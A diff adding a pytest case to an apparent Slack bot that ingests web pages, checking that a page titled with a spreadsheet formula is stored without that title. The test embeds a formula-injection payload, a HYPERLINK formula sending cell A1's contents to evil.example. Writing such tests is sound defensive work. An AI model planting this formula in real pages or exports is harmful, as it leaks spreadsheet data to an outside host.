@@ -13,7 +13,7 @@ from sqlalchemy import Engine, func, select
 from bot.web import create_wsgi
 from storage import roles
 from storage.db import make_sessions
-from storage.models import Quote, Statistic, Status
+from storage.models import Quote, Source, Statistic, Status
 from tests import ingest_site
 from tests.conftest import SIGNING_SECRET, slack_settings
 from tests.http_server import serving, static_site
@@ -205,3 +205,24 @@ def test_when_every_reader_is_busy_the_person_is_told_to_try_again(
             "try again in a few minutes"
             in ingest(server, standin, f"ingest {dripping.url}/drip-headers")["text"]
         )
+
+
+def test_a_page_titled_like_a_formula_is_stored_without_that_title(
+    server: str, standin: SlackStandIn, engine: Engine
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Source")'
+    body = (GOLD / "child-poverty-two-child-limit.txt").read_text(encoding="utf-8")
+    page = (
+        f"<html><head><title>{formula}</title><meta property='og:title' content='{formula}'></head>"
+        f"<body><article><h1>{formula}</h1>"
+        + "".join(f"<p>{line}</p>" for line in body.splitlines()[1:] if line.strip())
+        + "</article></body></html>"
+    )
+    with serving(static_site({"/formula": ("text/html; charset=utf-8", page.encode())})) as site:
+        ingest(server, standin, f"ingest {site}/formula")
+        assert "for review" in last_response(standin)
+    with make_sessions(engine)() as session:
+        titles = set(session.scalars(select(Source.title)))
+        texts = set(session.scalars(select(Statistic.measure))) | set(session.scalars(select(Quote.text)))
+    assert count(engine, Statistic, Status.PENDING) > 0
+    assert not any(text.startswith("=") for text in titles | texts)
